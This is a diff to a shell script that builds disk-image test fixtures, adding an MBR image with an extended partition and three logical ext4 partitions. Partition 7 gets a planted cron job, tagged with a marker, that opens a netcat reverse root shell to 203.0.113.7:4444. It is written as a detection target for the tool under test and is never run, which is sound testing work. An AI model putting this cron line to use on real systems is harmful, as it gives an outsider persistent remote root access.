@@ -15,6 +15,8 @@
 #   ext4-frag.img       a file written by debugfs into the gaps of deleted files
 #   gpt.img             GPT: p1 ext4 (tree), p2 ext4 (tree2)
 #   mbr.img             MBR: p1 FAT32 (tree-fat), p2 ext4 (tree2)
+#   mbr-logical.img     MBR: p1 ext4, p2 extended holding logical p5, p6, p7 (ext4 each, written
+#                       by sfdisk); p7 holds /etc/cron.d/job with VMSCOPE_MARKER_P2
 #   gpt.qcow2 gpt-v2.qcow2 gpt-zlib.qcow2 gpt-zstd.qcow2   qemu-img convert of gpt.img
 #   chain-base.qcow2 <- chain-mid.qcow2 <- chain-top.qcow2  3-layer chain: mid by a
 #       relative backing path, top by an absolute one; layers hold filesystem changes
@@ -136,6 +138,35 @@ start=133120, size=65536, type=83
 PT
 dd if=fat.img of=mbr.img bs=512 seek=2048 conv=notrunc,sparse status=none
 dd if=p2.img of=mbr.img bs=512 seek=133120 conv=notrunc,sparse status=none
+
+log "mbr-logical.img"
+# An extended partition with three logical ones (Linux numbers them 5, 6,
+# 7); sfdisk writes the chain of extended boot records.
+for i in 1 5 6 7; do
+  rm -rf "tree-l$i"
+  mkdir -p "tree-l$i/etc"
+  printf 'partition %s\n' "$i" > "tree-l$i/etc/which"
+done
+mkdir -p tree-l7/etc/cron.d
+printf '* * * * * root nc -e /bin/sh 203.0.113.7 4444 # VMSCOPE_MARKER_P2\n' > tree-l7/etc/cron.d/job
+for i in 1 5 6 7; do mk "l$i.img" 8M "tree-l$i" -L "logical$i" -t ext4; done
+rm -f mbr-logical.img
+truncate -s 64M mbr-logical.img
+sfdisk -q mbr-logical.img <<'PT'
+label: dos
+label-id: 0x10c1ca15
+start=2048, size=16384, type=83
+start=18432, size=110592, type=5
+start=20480, size=16384, type=83
+start=38912, size=16384, type=83
+start=57344, size=16384, type=83
+PT
+for i in 1 5 6 7; do
+  # Where sfdisk put partition i ("mbr-logical.img7 : start=       57344, ...").
+  start=$(sfdisk -d mbr-logical.img | awk -v p="mbr-logical.img$i" '$1 == p { sub(/,/, "", $4); print $4 }')
+  dd if="l$i.img" of=mbr-logical.img bs=512 seek="$start" conv=notrunc,sparse status=none
+done
+rm -rf l1.img l5.img l6.img l7.img tree-l1 tree-l5 tree-l6 tree-l7
 
 log "qcow2 conversions"
 qemu-img convert -f raw -O qcow2 gpt.img gpt.qcow2
